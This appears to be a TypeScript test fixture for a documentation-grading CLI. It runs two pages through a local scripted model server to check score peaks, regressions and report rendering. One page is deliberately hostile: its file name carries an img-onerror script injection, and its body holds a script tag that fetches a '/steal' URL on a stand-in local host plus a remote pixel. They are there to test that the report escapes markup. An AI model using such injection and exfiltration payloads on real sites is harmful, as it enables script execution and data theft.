// A real run to look at: the CLI grades two pages through the OpenAI SDK against the local model
// server, with revision on, so one page peaks at its first revision and regresses at the next (the
// pattern the report page must make plain), and the other carries hostile text — markup that would
// call out if a page ever rendered it as HTML, and a file name with markup in it.
import { startModelServer, type ModelServer } from "./model-server.js";
import { contains, scripted } from "./scripted.js";
import { cli, makeWorkspace } from "./workspace.js";

export const JOURNEY_RUBRIC = `---
files:
  - docs/*.md
description: A user guide page.
max_iterations: 2
---

- Has an Install section. {#install}
- Shows a usage example. {#usage}
- Names the limits of the tool. {#limits}
- [advisory] Is free of raw HTML. {#no-html}
`;

/** A name with markup: as HTML, it would load `x` beside the page and run its error handler. */
export const HOSTILE_NAME = "docs/<img src=x onerror=alert(1)>.md";
export const HOSTILE_DOC =
  '# Notes\n\n## Install\n\n<script>fetch("http://127.0.0.1:9/steal")</script>\n\n<img src="http://127.0.0.1:9/pixel.png">\n\nUsage: `tool run`\n\nLimits: 10 files.\n';
export const GUIDE = "# Guide\n\n## Install\n\nnpm i tool\n\nTODO\n";

export const JOURNEY_RULES = {
  install: contains("## Install"),
  usage: contains("Usage:"),
  limits: contains("Limits:"),
  "no-html": (artifact: string) => (/<[a-z]/i.test(artifact) ? false : "# "),
};

/**
 * Writer: the first revision adds the usage line (score up, the peak); revising that, it loses the
 * Install heading (score down: a regression after the peak).
 */
export function journeyWriter(artifact: string): Array<{ find: string; replace: string }> {
  if (!artifact.includes("Usage:")) return [{ find: "TODO\n", replace: "Usage: `tool run`\n" }];
  return [{ find: "## Install\n", replace: "Installing:\n" }];
}

export async function runJourney(extraArgs: string[] = [], extraEnv: Record<string, string> = {}) {
  const ws = await makeWorkspace({
    "rubrics/guide.md": JOURNEY_RUBRIC,
    "docs/guide.md": GUIDE,
    [HOSTILE_NAME]: HOSTILE_DOC,
  });
  const server: ModelServer = await startModelServer(
    scripted({ judge: JOURNEY_RULES, writer: journeyWriter }),
  );
  try {
    const run = await cli(
      ["grade", "--judge", "openai:gpt-4.1", "--revise", "--report", "report.json", ...extraArgs],
      ws.root,
      { OPENAI_API_KEY: "test-key", OPENAI_BASE_URL: server.openaiBaseURL, ...extraEnv },
    );
    return { ws, run, server };
  } finally {
    await server.close();
  }
}
